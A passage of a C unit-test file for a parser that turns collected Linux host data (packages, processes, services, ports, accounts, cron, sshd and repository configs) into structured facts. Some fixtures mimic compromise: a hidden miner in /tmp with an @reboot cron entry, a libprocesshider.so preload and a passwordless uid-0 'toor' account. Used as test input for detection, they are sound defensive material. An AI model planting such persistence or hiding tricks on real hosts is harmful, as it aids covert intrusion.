	  { "updates.count => 3", "updates.security_count => 2",
	    "updates.list[0] => {\"name\":\"libopenssl1_1\",\"version\":\"1.1.1l-150400.7.60.2\",\"current\":\"1.1.1l-150400.7.28.1\",\"arch\":\"x86_64\",\"origin\":\"repo-sle-update\",\"security\":true}",
	    "updates.list[1].security => true", "updates.list[2].security => false",
	    "updates.advisories# => 2",
	    "updates.advisories[1] => {\"id\":\"openSUSE-SLE-15.5-2024-1300\",\"severity\":\"moderate\",\"package\":null,\"summary\":\"Security update for curl\"}",
	    "components.list{name=openssl}.security => true", NULL } },
	{ "zypper table without rows", TOOLS_ZYP SEC("updates", "No updates found.\n"),
	  { "updates.count => 0", "updates.security_count => null", NULL } },
	/* apk */
	{ "apk upgrade", TOOLS_APK SEC("packages", "busybox-1.36.1-r15\n")
	  SEC("updates", "(1/2) Upgrading busybox (1.36.1-r15 -> 1.36.1-r19)\n(2/2) Upgrading musl (1.2.4-r2 -> 1.2.4-r3)\nOK: 10 MiB in 20 packages\n(x) Upgrading\n"),
	  { "updates.count => 2", "updates.security_count => null",
	    "updates.list[0] => {\"name\":\"busybox\",\"version\":\"1.36.1-r19\",\"current\":\"1.36.1-r15\",\"arch\":null,\"origin\":null,\"security\":false}",
	    NULL } },
	/* reboot */
	{ "reboot file and packages",
	  SEC("reboot", "reboot_required_file=yes\npkg=linux-image-6.1.0-21-amd64\npkg=libc6\nneeds_restarting=0\nodd\n"),
	  { "reboot.required_file => true", "reboot.packages => [\"linux-image-6.1.0-21-amd64\",\"libc6\"]",
	    "reboot.needs_restarting => 0", "reboot.required => true", "reboot.src.skipped => 1", NULL } },
	{ "needs-restarting says reboot", SEC("reboot", "reboot_required_file=no\nneeds_restarting=1\n"),
	  { "reboot.required => true", "reboot.needs_restarting => 1", NULL } },
	{ "no reboot", SEC("reboot", "reboot_required_file=no\n"),
	  { "reboot.required => false", "reboot.needs_restarting => null", "reboot.required_file => false", NULL } },
	{ "reboot flag unreadable", SEC("reboot", "reboot_required_file=maybe\n"),
	  { "reboot.required_file => null", "reboot.required => false", NULL } },
};

static void test_pkg(void **state)
{
	(void)state;
	run_rows(pkg_rows, ARRAY_SIZE(pkg_rows));
}

#define PASSWD FILE_("/etc/passwd") \
	"root:x:0:0:root:/root:/bin/bash\n" \
	"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" \
	"toor:x:0:0::/root:/bin/sh\n" \
	"nopw::1001:1001::/home/nopw:/bin/bash\n" \
	"old:(hash):1002:1002::/home/old:/bin/bash\n" \
	"oldlocked:!(hash):1003:1003::/home/oldlocked:/bin/bash\n" \
	"www:x:33:33:www-data:/var/www:/usr/sbin/nologin\n" \
	"# comment\n+nis\nbroken:x:abc:0::/:/bin/sh\nshort:x:1\n"
#define SHADOW FILE_("/etc/shadow") \
	"root\tset\t19700\t99999\t\n" \
	"daemon\tlocked\t19700\t99999\t\n" \
	"toor\tempty\t\t\t\n" \
	"nopw\tlocked\t19000\t90\t20000\n" \
	"www\tlocked\t0\t\t\n" \
	"ghost\tset\t1\t2\t3\n" \
	"bad\tweird\t1\t2\t3\nbad2\n"

static const struct row sys_rows[] = {
	{ "processes",
	  SEC("processes", "1\t0\tsystemd\t/usr/lib/systemd/systemd\n2\t0\tkthreadd\t\n"
			   "812\t0\tsshd\t/usr/sbin/sshd\n900\t33\tminer\t/tmp/.x/kworker (deleted)\n"
			   "901\t1001\tx\t/dev/shm/x\n902\t0\tup\t/usr/sbin/up (deleted)\n903\t5000\tname with\ttab\t/var/tmp/y\n"
			   "bad\t0\tx\t/x\n904\tx\tx\t/x\n905\t0\n\n")
	  SEC("accounts", PASSWD),
	  { "processes.list# => 7",
	    "processes.list[0] => {\"pid\":1,\"uid\":0,\"user\":\"root\",\"comm\":\"systemd\",\"exe\":\"/usr/lib/systemd/systemd\",\"deleted\":false,\"in_tmp\":false}",
	    "processes.list[1].exe => null",
	    "processes.list[3] => {\"pid\":900,\"uid\":33,\"user\":\"www\",\"comm\":\"miner\",\"exe\":\"/tmp/.x/kworker\",\"deleted\":true,\"in_tmp\":true}",
	    "processes.list[4].in_tmp => true", "processes.list[4].user => \"nopw\"",
	    "processes.list[5].deleted => true", "processes.list[5].in_tmp => false",
	    "processes.list[6].comm => \"name with\\ttab\"", "processes.list[6].exe => \"/var/tmp/y\"",
	    "processes.list[6].user => null", "processes.list[6].in_tmp => true",
	    "processes.src.skipped => 3", "services.src => null", "services.init => null", NULL } },
	{ "services systemd and sysv",
	  SEC("processes", "1\t0\tsystemd\t/usr/lib/systemd/systemd\n")
	  SEC("services", "ssh.service                enabled         enabled\n"
			  "aegis.service              generated       -\n"
			  "cron.service               disabled        enabled\n"
			  "getty@.service             enabled         enabled\n"
			  "dbus-org.freedesktop.timesync1.service alias -\n"
			  "masked.service masked enabled\n"
			  "nothing.socket enabled enabled\n"
			  "runtime.service enabled-runtime enabled\n"
			  FILE_("/etc/rc2.d") "README\nS01aegis\nK01cron\nS01cron\n"
			  FILE_("/etc/rc3.d") "S01aegis\nS99local\n"
			  FILE_("/etc/rc.d/rc5.d") "S50legacy\nS\n"
			  FILE_("/etc/rc1.d") "S01onlyone\n"
			  FILE_("/etc/init.d") "README\naegis\ncron\nfunctions\nstopped\n"),
	  { "services.init => \"systemd\"",
	    "services.list{name=ssh} => {\"name\":\"ssh\",\"systemd_state\":\"enabled\",\"sysv_runlevels\":null,\"enabled\":true}",
	    "services.list{name=aegis} => {\"name\":\"aegis\",\"systemd_state\":\"generated\",\"sysv_runlevels\":\"23\",\"enabled\":true}",
	    "services.list{name=cron}.enabled => false", "services.list{name=cron}.sysv_runlevels => \"2\"",
	    "services.list{name=getty@}.enabled => true",
	    "services.list{name=dbus-org.freedesktop.timesync1}.enabled => false",
	    "services.list{name=masked}.enabled => false", "services.list{name=runtime}.enabled => true",
	    "services.list{name=local}.enabled => true", "services.list{name=local}.systemd_state => null",
	    "services.list{name=legacy}.sysv_runlevels => \"5\"",
	    "services.list{name=onlyone}.enabled => false", "services.list{name=onlyone}.sysv_runlevels => \"\"",
	    "services.list{name=stopped}.sysv_runlevels => \"\"", "services.list{name=stopped}.enabled => false",
	    "services.list{name=README} => <missing>", "services.list{name=functions} => <missing>",
	    "services.src.skipped => 1", NULL } },
	{ "services sysvinit only",
	  SEC("processes", "1\t0\tinit\t/sbin/init\n")
	  SECS("services", 127, FILE_("/etc/rc3.d") "S20aegis\n" FILE_("/etc/init.d") "aegis\n"),
	  { "services.init => \"sysvinit\"", "services.list{name=aegis}.enabled => true", "services.src.status => 127", NULL } },
	{ "init from the section when PID 1 is a container's",
	  SEC("processes", "1\t0\ttini\t/sbin/tini\n") SEC("services", "ssh.service enabled enabled\n"),
	  { "services.init => \"systemd\"", NULL } },
	{ "init unknown", SEC("services", ""), { "services.init => null", "services.list => []", NULL } },
	/* listening */
	{ "ss",
	  SEC("listening", "tcp   LISTEN 0      128          0.0.0.0:22        0.0.0.0:*    users:((\"sshd\",pid=812,fd=3))\n"
			   "tcp   LISTEN 0      128             [::]:22           [::]:*    users:((\"sshd\",pid=812,fd=4),(\"sshd\",pid=9,fd=4))\n"
			   "udp   UNCONN 0      0      127.0.0.53%lo:53        0.0.0.0:*    users:((\"systemd-resolve\",pid=500,fd=13))\n"
			   "tcp   LISTEN 0      4096   [fe80::1%eth0]:8080         [::]:*\n"
			   "tcp   LISTEN 0      128                *:80              *:*    users:((\"nginx: master\",pid=77,fd=6))\n"
			   "tcp   LISTEN 0      128          0.0.0.0:x        0.0.0.0:*\n"
			   "Netid State Recv-Q\n"),
	  { "listening.tool => \"ss\"", "listening.list# => 5",
	    "listening.list[0] => {\"proto\":\"tcp\",\"address\":\"0.0.0.0\",\"port\":22,\"process\":\"sshd\",\"pid\":812}",
	    "listening.list[1].address => \"::\"", "listening.list[2].address => \"127.0.0.53%lo\"",
	    "listening.list[2].proto => \"udp\"", "listening.list[2].process => \"systemd-resolve\"",
	    "listening.list[3].address => \"fe80::1%eth0\"", "listening.list[3].process => null",
	    "listening.list[3].pid => null", "listening.list[4].address => \"*\"",
	    "listening.list[4].process => \"nginx: master\"", "listening.src.skipped => 1", NULL } },
	{ "netstat",
	  SEC("listening", "Active Internet connections (only servers)\n"
			   "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name\n"
			   "tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      812/sshd\n"
			   "tcp6       0      0 :::3306                 :::*                    LISTEN      1200/mysqld\n"
			   "udp        0      0 0.0.0.0:68              0.0.0.0:*                           600/dhclient\n"
			   "udp6       0      0 :::123                  :::*                                -\n"),
	  { "listening.tool => \"netstat\"", "listening.list# => 4",
	    "listening.list[0] => {\"proto\":\"tcp\",\"address\":\"0.0.0.0\",\"port\":22,\"process\":\"sshd\",\"pid\":812}",
	    "listening.list[1] => {\"proto\":\"tcp\",\"address\":\"::\",\"port\":3306,\"process\":\"mysqld\",\"pid\":1200}",
	    "listening.list[2].process => \"dhclient\"", "listening.list[2].port => 68",
	    "listening.list[3].process => null", "listening.list[3].proto => \"udp\"", NULL } },
	{ "proc net",
	  SEC("listening", FILE_("/proc/net/tcp")
	      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
	      "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n"
	      "   1: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n"
	      "   2: 0100007F:0016 0100007F:A000 01 00000000:00000000 00:00000000 00000000     0        0 1 1\n"
	      "   3: ZZ00007F:0016 00000000:0000 0A\n"
	      FILE_("/proc/net/tcp6")
	      "   0: 00000000000000000000000000000000:0050 00000000000000000000000000000000:0000 0A 0\n"
	      "   1: 00000000000000000000000001000000:0019 00000000000000000000000000000000:0000 0A 0\n"
	      FILE_("/proc/net/udp")
	      "  123: 00000000:0044 00000000:0000 07 00000000:00000000\n"
	      FILE_("/proc/net/other") "   0: 00000000:0016 00000000:0000 0A\n"),
	  { "listening.tool => \"proc\"", "listening.list# => 5",
	    "listening.list[0] => {\"proto\":\"tcp\",\"address\":\"0.0.0.0\",\"port\":22,\"process\":null,\"pid\":null}",
	    "listening.list[1].address => \"127.0.0.1\"", "listening.list[1].port => 3306",
	    "listening.list[2].address => \"::\"", "listening.list[2].port => 80",
	    "listening.list[3].address => \"::1\"", "listening.list[3].port => 25",
	    "listening.list[4] => {\"proto\":\"udp\",\"address\":\"0.0.0.0\",\"port\":68,\"process\":null,\"pid\":null}",
	    "listening.src.skipped => 1", NULL } },
	/* accounts */
	{ "accounts", SEC("accounts", PASSWD SHADOW),
	  { "accounts.shadow => true", "accounts.list# => 7",
	    "accounts.list[0] => {\"name\":\"root\",\"uid\":0,\"gid\":0,\"home\":\"/root\",\"shell\":\"/bin/bash\",\"password\":\"set\",\"lastchg\":19700,\"max\":99999,\"expire\":null}",
	    "accounts.list{name=toor}.password => \"empty\"", "accounts.list{name=toor}.uid => 0",
	    "accounts.list{name=toor}.lastchg => null",
	    "accounts.list{name=nopw}.password => \"empty\"", "accounts.list{name=nopw}.expire => 20000",
	    "accounts.list{name=nopw}.max => 90",
	    "accounts.list{name=old}.password => \"set\"", "accounts.list{name=oldlocked}.password => \"locked\"",
	    "accounts.list{name=www}.lastchg => 0", "accounts.list{name=daemon}.password => \"locked\"",
	    "accounts.src.skipped => 4", NULL } },
	{ "accounts without shadow", SECS("accounts", 1, PASSWD),
	  { "accounts.shadow => false", "accounts.list{name=root}.password => \"unknown\"",
	    "accounts.list{name=nopw}.password => \"empty\"", "accounts.src.status => 1", NULL } },
	/* cron */
	{ "cron",
	  SEC("cron", FILE_("/etc/crontab") "SHELL=/bin/sh\nPATH = /usr/bin\n# m h dom mon dow user command\n\n"
		      "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
		      FILE_("/var/spool/cron/crontabs/root") "  @reboot /tmp/.x/miner  \n"
		      FILE_("/etc/cron.daily") ".placeholder\napt-compat\n" FILE_("/etc/cron.d/empty")),
	  { "cron.files# => 4", "cron.entries# => 3",
	    "cron.entries[0] => {\"file\":\"/etc/crontab\",\"line\":\"17 *\\t* * *\\troot    cd / && run-parts --report /etc/cron.hourly\"}",
	    "cron.entries[1] => {\"file\":\"/var/spool/cron/crontabs/root\",\"line\":\"@reboot /tmp/.x/miner\"}",
	    "cron.entries[2] => {\"file\":\"/etc/cron.daily\",\"line\":\"apt-compat\"}",
	    "cron.files[0].lines# => 5", "cron.files[0].listing => false", "cron.files[2].listing => true",
	    "cron.files[2].lines => [\".placeholder\",\"apt-compat\"]", "cron.files[3].lines => []", NULL } },
	/* ld.so.preload */
	{ "ld.so.preload", SEC("ld-so-preload", "/usr/lib/libprocesshider.so  /lib/x.so:/lib/y.so # comment\n# all comment\n\n"),
	  { "ld_so_preload.present => true",
	    "ld_so_preload.entries => [\"/usr/lib/libprocesshider.so\",\"/lib/x.so\",\"/lib/y.so\"]", NULL } },
	{ "ld.so.preload absent", SECS("ld-so-preload", 1, ""),
	  { "ld_so_preload.present => false", "ld_so_preload.entries => []", "ld_so_preload.src.status => 1", NULL } },
	{ "ld.so.preload not collected", "", { "ld_so_preload.present => false", "ld_so_preload.src => null", NULL } },
	/* sshd */
	{ "sshd -T",
	  SEC("sshd", "port 22\naddressfamily any\nlistenaddress [::]:22\nlistenaddress 0.0.0.0:22\n"
		      "permitrootlogin without-password\npasswordauthentication yes\nhostkey /etc/ssh/ssh_host_rsa_key\n"
		      "hostkey /etc/ssh/ssh_host_ed25519_key\nsubsystem sftp /usr/lib/openssh/sftp-server\nbanner none\n"),
	  { "sshd.effective => true", "sshd.options# => 8",
	    "sshd.options{key=permitrootlogin}.values => [\"without-password\"]",
	    "sshd.options{key=hostkey}.values# => 2", "sshd.options{key=listenaddress}.values[1] => \"0.0.0.0:22\"",
	    "sshd.options{key=subsystem}.values => [\"sftp /usr/lib/openssh/sftp-server\"]", NULL } },
	{ "sshd_config fallback with Include and Match",
	  SECS("sshd", 255, "# comment\nInclude /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n"
			    "PasswordAuthentication=no\nX11Forwarding \"yes\"\n  \nMatch User backup\n  PermitRootLogin no\n"
			    FILE_("/etc/ssh/sshd_config.d/50-cloud-init.conf") "PasswordAuthentication yes\n"
			    FILE_("/etc/ssh/sshd_config.d/60-x.conf") "permitrootlogin prohibit-password\nMatch all\nPort 2222\n"
			    FILE_("/etc/ssh/other.conf") "Port 23\n"),
	  { "sshd.effective => false", "sshd.src.status => 255",
	    "sshd.options{key=passwordauthentication}.values => [\"yes\",\"no\"]",
	    "sshd.options{key=permitrootlogin}.values => [\"prohibit-password\",\"yes\"]",
	    "sshd.options{key=x11forwarding}.values => [\"yes\"]", "sshd.options{key=port} => <missing>", NULL } },
	{ "sshd relative include", SECS("sshd", 1, "Include conf.d/a\n" FILE_("/etc/ssh/conf.d/a") "Port 2022\n"),
	  { "sshd.options{key=port}.values => [\"2022\"]", NULL } },
	{ "sshd include loop is bounded", SECS("sshd", 1, "Include /a\n" FILE_("/a") "Include /a\nPort 1\n"),
	  { "sshd.options{key=port}.values# => 4", NULL } },
	{ "sshd absent", SECS("sshd", 127, ""), { "sshd.effective => false", "sshd.options => []", NULL } },
	/* keys, histories, host keys */
	{ "authorized keys",
	  SEC("authorized-keys", "/root/.ssh/authorized_keys\t0\t600\t2\tssh-ed25519,ssh-rsa\n"
				 "/home/a/.ssh/authorized_keys2\t1000\t644\t0\t\nbroken\n"),
	  { "authorized_keys.list# => 2",
	    "authorized_keys.list[0] => {\"path\":\"/root/.ssh/authorized_keys\",\"uid\":0,\"mode\":\"600\",\"count\":2,\"types\":[\"ssh-ed25519\",\"ssh-rsa\"]}",
	    "authorized_keys.list[1].types => []", "authorized_keys.list[1].count => 0",
	    "authorized_keys.src.skipped => 1", NULL } },
	{ "histories", SEC("histories", "/root/.bash_history\t1234\n/home/a/.viminfo\t\nx\n"),
	  { "histories.list# => 2", "histories.list[0] => {\"path\":\"/root/.bash_history\",\"size\":1234}",
	    "histories.list[1].size => null", "histories.src.skipped => 1", NULL } },
	{ "host keys", SEC("host-keys", "/etc/ssh/ssh_host_ed25519_key\n/etc/ssh/ssh_host_ed25519_key.pub\n\n"),
	  { "host_keys.paths# => 2", NULL } },
	{ "host keys none", SEC("host-keys", ""), { "host_keys.paths => []", "host_keys.src.section => \"host-keys\"", NULL } },
	/* machine-id, cloud-init */
	{ "machine-id", SEC("machine-id", "etc=0123456789abcdef0123456789abcdef\ndbus=ABSENT\n"),
	  { "machine_id.etc => \"0123456789abcdef0123456789abcdef\"", "machine_id.etc_state => \"set\"",
	    "machine_id.dbus => null", "machine_id.dbus_state => \"absent\"", NULL } },
	{ "machine-id empty", SEC("machine-id", "etc=EMPTY\ndbus=uninitialized\nx\n"),
	  { "machine_id.etc => \"\"", "machine_id.etc_state => \"empty\"", "machine_id.dbus_state => \"uninitialized\"",
	    "machine_id.src.skipped => 1", NULL } },
	{ "cloud-init", SEC("cloud-init", "status: done\nextended_status: done\nboot_status_code: enabled-by-generator\n"
					  "last_update: Thu, 01 Jan 1970 00:00:54 +0000\ndetail:\nDataSourceNoCloud\n"
					  "boot_finished=yes\ninstances=1\n"),
	  { "cloud_init.present => true", "cloud_init.status => \"done\"", "cloud_init.boot_finished => true",
	    "cloud_init.instances => 1", NULL } },
	{ "cloud-init absent", SECS("cloud-init", 127, "boot_finished=no\ninstances=0\n"),
	  { "cloud_init.present => false", "cloud_init.status => null", "cloud_init.boot_finished => false",
	    "cloud_init.instances => 0", NULL } },
	{ "cloud-init running", SECS("cloud-init", 0, "status: running\nboot_finished=no\ninstances=x\n"),
	  { "cloud_init.status => \"running\"", "cloud_init.instances => null", NULL } },
	/* sources */
	{ "apt one-line sources",
	  SEC("sources", FILE_("/etc/apt/sources.list")
	      "deb http://deb.debian.org/debian bookworm main contrib\n# deb-src http://x y z\n"
	      "deb [arch=amd64 signed-by=/usr/share/keyrings/x.gpg] https://repo.example/apt stable main\n"
	      "deb-src http://deb.debian.org/debian bookworm main\ndeb [broken\nrubbish line\n"
	      FILE_("/etc/apt/sources.list.d/flat.list") "deb http://x.example/ ./\n"),
	  { "sources.files# => 2", "sources.files[0].lines# => 5", "sources.repos# => 4",
	    "sources.repos[0] => {\"file\":\"/etc/apt/sources.list\",\"kind\":\"apt\",\"id\":null,\"types\":\"deb\",\"uris\":\"http://deb.debian.org/debian\",\"mirrorlist\":null,\"suites\":\"bookworm\",\"components\":\"main contrib\",\"enabled\":true}",
	    "sources.repos[1].uris => \"https://repo.example/apt\"", "sources.repos[1].suites => \"stable\"",
	    "sources.repos[2].types => \"deb-src\"", "sources.repos[3].suites => \"./\"",
	    "sources.repos[3].components => null", "sources.src.skipped => 2", NULL } },
	{ "deb822 sources",
	  SEC("sources", FILE_("/etc/apt/sources.list.d/debian.sources")
	      "Types: deb deb-src\nURIs: http://deb.debian.org/debian\nSuites: bookworm bookworm-updates\n"
	      "Components: main\nSigned-By: /usr/share/keyrings/debian-archive-keyring.gpg\n\n"
	      "# security\nTypes: deb\nURIs: http://deb.debian.org/debian-security\nSuites: bookworm-security\n"
	      "Components: main\n non-free\nEnabled: no\nSigned-By:\n -----BEGIN PGP PUBLIC KEY BLOCK-----\n .\n xyz\n"
	      " \n\nnot a field\n"),
	  { "sources.repos# => 2",
	    "sources.repos[0] => {\"file\":\"/etc/apt/sources.list.d/debian.sources\",\"kind\":\"deb822\",\"id\":null,\"types\":\"deb deb-src\",\"uris\":\"http://deb.debian.org/debian\",\"mirrorlist\":null,\"suites\":\"bookworm bookworm-updates\",\"components\":\"main\",\"enabled\":true}",
	    "sources.repos[1].enabled => false", "sources.repos[1].components => \"main non-free\"",
	    "sources.src.skipped => 1", NULL } },
	{ "yum and zypper repos",
	  SEC("sources", FILE_("/etc/yum.repos.d/rocky.repo")
	      "[baseos]\nname=Rocky Linux $releasever - BaseOS\nmirrorlist=https://mirrors.rockylinux.org/mirrorlist?arch=$basearch&repo=BaseOS-$releasever\n"
	      "#baseurl=http://dl.rockylinux.org/$contentdir/$releasever/BaseOS/$basearch/os/\ngpgcheck=1\nenabled=1\n\n"
	      "[devel]\nbaseurl=http://a.example/1\n        http://b.example/2\nenabled = 0\n[broken\nstray=1\n"
	      FILE_("/etc/zypp/repos.d/repo-oss.repo")
	      "[repo-oss]\nname=Main Repository\nenabled=1\nautorefresh=1\nbaseurl=http://download.opensuse.org/distribution/leap/15.5/repo/oss/\ntype=rpm-md\n"
	      FILE_("/etc/yum.repos.d/empty.repo") "; nothing\n"),
	  { "sources.repos# => 3",
	    "sources.repos[0] => {\"file\":\"/etc/yum.repos.d/rocky.repo\",\"kind\":\"yum\",\"id\":\"baseos\",\"types\":null,\"uris\":null,\"mirrorlist\":\"https://mirrors.rockylinux.org/mirrorlist?arch=$basearch&repo=BaseOS-$releasever\",\"suites\":null,\"components\":null,\"enabled\":true}",
	    "sources.repos[1].uris => \"http://a.example/1 http://b.example/2\"", "sources.repos[1].enabled => false",
	    "sources.repos[2].kind => \"zypper\"", "sources.repos[2].id => \"repo-oss\"", "sources.repos[2].types => \"rpm-md\"",
	    "sources.src.skipped => 2", "sources.files[2].lines => [\"; nothing\"]", NULL } },
	{ "apk repositories",
	  SEC("sources", FILE_("/etc/apk/repositories") "https://dl-cdn.alpinelinux.org/alpine/v3.19/main\n#x\n@edge https://x/edge/testing\n"),
	  { "sources.repos# => 2", "sources.repos[0].uris => \"https://dl-cdn.alpinelinux.org/alpine/v3.19/main\"",
	    "sources.repos[1].id => \"@edge\"", "sources.repos[1].uris => \"https://x/edge/testing\"", NULL } },
	/* third party */
	{ "third-party versions",
	  SEC("third-party", "php\t/usr/bin/php\tPHP 7.4.33 (cli) (built: Nov  8 2022 11:33:53) ( NTS )\n"
			     "nginx\t/usr/sbin/nginx\tnginx version: nginx/1.24.0\n"
			     "mysqld\t/usr/sbin/mysqld\t/usr/sbin/mysqld  Ver 8.0.36 for Linux on x86_64 (MySQL Community Server - GPL)\n"
			     "node\t/usr/local/bin/node\tv18.19.0\n"
			     "java\t/usr/bin/java\topenjdk version \"1.8.0_392\"\n"
			     "redis-server\t/usr/bin/redis-server\tRedis server v=7.2.4 sha=00000000:0 malloc=jemalloc-5.3.0 bits=64\n"
			     "httpd\t/usr/sbin/httpd\tServer version: Apache/2.4.57 (Unix)\n"
			     "proftpd\t/usr/sbin/proftpd\tProFTPD Version 1.3.8b\n"
			     "tomcat\t/opt/tomcat/bin/version.sh\tApache Tomcat Version 9.0.85\n"
			     "jetty\t/opt/jetty/start.jar\t\n"
			     "odd\t/x\tversion 12\n"
			     "noversion\n"),
	  { "third_party.list# => 11",
	    "third_party.list[0] => {\"name\":\"php\",\"path\":\"/usr/bin/php\",\"version_text\":\"PHP 7.4.33 (cli) (built: Nov  8 2022 11:33:53) ( NTS )\",\"version\":\"7.4.33\"}",
	    "third_party.list[1].version => \"1.24.0\"", "third_party.list[2].version => \"8.0.36\"",
	    "third_party.list[3].version => \"18.19.0\"", "third_party.list[4].version => \"1.8.0\"",
	    "third_party.list[5].version => \"7.2.4\"", "third_party.list[6].version => \"2.4.57\"",
	    "third_party.list[7].version => \"1.3.8\"", "third_party.list[8].version => \"9.0.85\"",
	    "third_party.list[9].version_text => null", "third_party.list[9].version => null",
	    "third_party.list[10].version => null", "third_party.src.skipped => 1", NULL } },
	/* first-login reset of web applications */
	{ "first-login",
	  SECS("first-login", 1,
	       "unreadable\t/root/.shelfready\n"
	       "/usr/local/libexec/shelfready/first-login-wordpress\tfile\t0\t700\t\n"
	       "/usr/local/libexec/shelfready/first-login-Bad.bak\tfile\t0\t755\t\n"
	       "/var/lib/cloud/scripts/per-instance/shelfready-first-login-wordpress\tfile\t0\t755\t\n"
	       "/etc/systemd/system/shelfready-first-login-grafana.service\tfile\t0\t644\t\n"
	       "/etc/systemd/system/multi-user.target.wants/shelfready-first-login-grafana.service\tlink\t0\t777\t/etc/systemd/system/shelfready-first-login-grafana.service\n"
	       "/etc/systemd/system/shelfready-first-login-masked.service\tlink\t0\t777\t/dev/null\n"
	       "/var/lib/shelfready/first-login/grafana.done\tfile\t0\t644\t\n"
	       "/root/.shelfready/first-login/my_app-2.credentials\tfile\t0\t600\t\n"
	       "/var/lib/shelfready/first-login/odd.done\tweird\tx\t9999\tt\n"
	       "/var/lib/shelfready/first-login/grafana.done\tfile\t0\t644\t\n"
	       "/etc/passwd\tfile\t0\t644\t\n"
	       "garbage\n"
	       FILE_("/etc/systemd/system/shelfready-first-login-grafana.service")
	       "ConditionPathExists=!/var/lib/shelfready/first-login/grafana.done\n"
	       "ExecStart = /usr/local/libexec/shelfready/first-login-grafana\nType=oneshot\n"
	       FILE_("/etc/systemd/system/shelfready-first-login-unlisted.service") "ExecStart=/bin/true\n"),
	  { "first_login.src.status => 1", "first_login.unreadable => [\"/root/.shelfready\"]",
	    "first_login.ignored => [\"/usr/local/libexec/shelfready/first-login-Bad.bak\"]",
	    "first_login.apps# => 5", "first_login.apps[0].name => \"wordpress\"",
	    "first_login.apps[0].reset => {\"present\":true,\"path\":\"/usr/local/libexec/shelfready/first-login-wordpress\",\"type\":\"file\",\"uid\":0,\"mode\":\"700\",\"target\":null}",
	    "first_login.apps[0].hook.mode => \"755\"",
	    "first_login.apps[0].unit => {\"present\":false,\"path\":null,\"type\":null,\"uid\":null,\"mode\":null,\"target\":null}",
	    "first_login.apps{name=grafana}.unit.present => true",
	    "first_login.apps{name=grafana}.wants.target => \"/etc/systemd/system/shelfready-first-login-grafana.service\"",
	    "first_login.apps{name=grafana}.done.present => true",
	    "first_login.apps{name=grafana}.conditions => [\"!/var/lib/shelfready/first-login/grafana.done\"]",
	    "first_login.apps{name=grafana}.exec => [\"/usr/local/libexec/shelfready/first-login-grafana\"]",
	    "first_login.apps{name=grafana}.reset.present => false",
	    "first_login.apps{name=masked}.unit.target => \"/dev/null\"",
	    "first_login.apps{name=masked}.conditions => []",
	    "first_login.apps{name=my_app-2}.credentials.mode => \"600\"",
	    "first_login.apps{name=odd}.done => {\"present\":true,\"path\":\"/var/lib/shelfready/first-login/odd.done\",\"type\":null,\"uid\":null,\"mode\":null,\"target\":null}",
	    "first_login.apps{name=unlisted} => <missing>",
	    /* a second grafana.done, /etc/passwd, garbage, Type=, the unlisted unit's line */
	    "first_login.src.skipped => 5", NULL } },
	{ "first-login: nothing installed",
	  SEC("first-login", ""),
	  { "first_login.src.section => \"first-login\"", "first_login.apps => []",
	    "first_login.unreadable => []", "listening.src => null", NULL } },
	{ "first-login not collected", SEC("listening", ""),
	  { "first_login.src => null", "first_login.apps => []", NULL } },
};

static void test_sys(void **state)
{
	(void)state;
	run_rows(sys_rows, ARRAY_SIZE(sys_rows));
}

/* ---- lookups, helpers ---- */

static void test_lookup(void **state)
{
	(void)state;
	struct facts *f = facts_of(SEC("os-release", DEBIAN12) SEC("uname", "Linux\n6.1.0-18-amd64\naarch64\n#1\n")
				   TOOLS_APT SEC("meta", "user=admin\n") SEC("reboot", "reboot_required_file=yes\n")
				   SECS("cloud-init", 0, "status: done\nboot_finished=yes\n")
				   SEC("processes", "1\t0\tsystemd\t/sbin/init\n") SEC("services", ""));
	assert_non_null(f);
	static const char *const want[][2] = {
		{ "os.id", "debian" }, { "os.id_like", "" }, { "os.family", "debian" },
		{ "os.name", "Debian GNU/Linux 12 (bookworm)" }, { "os.version", "12 (bookworm)" },
		{ "os.version_id", "12" }, { "os.codename", "bookworm" }, { "os.arch", "aarch64" },
		{ "os.kernel", "6.1.0-18-amd64" }, { "pkg.manager", "apt" }, { "init.system", "systemd" },
		{ "reboot.required", "true" }, { "cloud_init.present", "true" }, { "cloud_init.status", "done" },
		{ "target.user", "admin" },
	};
	for (size_t i = 0; i < ARRAY_SIZE(want); i++) {
		const char *v = facts_lookup(f, want[i][0]);
		if (!v || strcmp(v, want[i][1])) {
			print_error("%s is '%s', want '%s'\n", want[i][0], v ? v : "(null)", want[i][1]);
			fail();
		}
		assert_string_equal(facts_cond_lookup(want[i][0], f), want[i][1]);
	}
	/* known names whose value is unknown here, and unknown names */
	assert_null(facts_lookup(f, "os.kernel_newest"));
	assert_null(facts_lookup(f, "no.such"));
	assert_null(facts_lookup(f, ""));
	/* every name of the table is answered by facts_lookup (not NULL for lack of a case) */
	struct facts *all = facts_of(SEC("os-release", "ID=x\nID_LIKE=y\nPRETTY_NAME=p\nVERSION=v\nVERSION_ID=1\nVERSION_CODENAME=c\n")
				     SEC("uname", "Linux\n1.0-a\nx86_64\n#1\n") SEC("kernels", "/boot/vmlinuz-1.0-a\n")
				     TOOLS_APT SEC("meta", "user=u\n") SEC("reboot", "reboot_required_file=no\n")
				     SECS("cloud-init", 0, "status: done\n") SEC("processes", "1\t0\tsystemd\t/x\n")
				     SEC("services", ""));
	for (const struct fact_name *n = fact_names; n->name; n++) {
		if (!facts_lookup(all, n->name)) {
			print_error("fact '%s' has no value\n", n->name);
			fail();
		}
		assert_ptr_equal(fact_name_find(n->name), n);
		assert_non_null(n->doc);
	}
	facts_free(all);
	facts_free(f);

	/* nothing collected: nothing known */
	f = facts_of("");
	for (const struct fact_name *n = fact_names; n->name; n++)
		assert_null(facts_lookup(f, n->name));
	facts_free(f);
	/* cloud-init collected and absent */
	f = facts_of(SECS("cloud-init", 127, "boot_finished=no\n"));
	assert_string_equal(facts_lookup(f, "cloud_init.present"), "false");
	facts_free(f);
}

static void test_queries(void **state)
{
	(void)state;
	struct facts *f = facts_of(TOOLS_APT SEC("os-release", DEBIAN12)
				   SEC("packages", "openssl\t3.0.11-1~deb12u2\tamd64\tii \n")
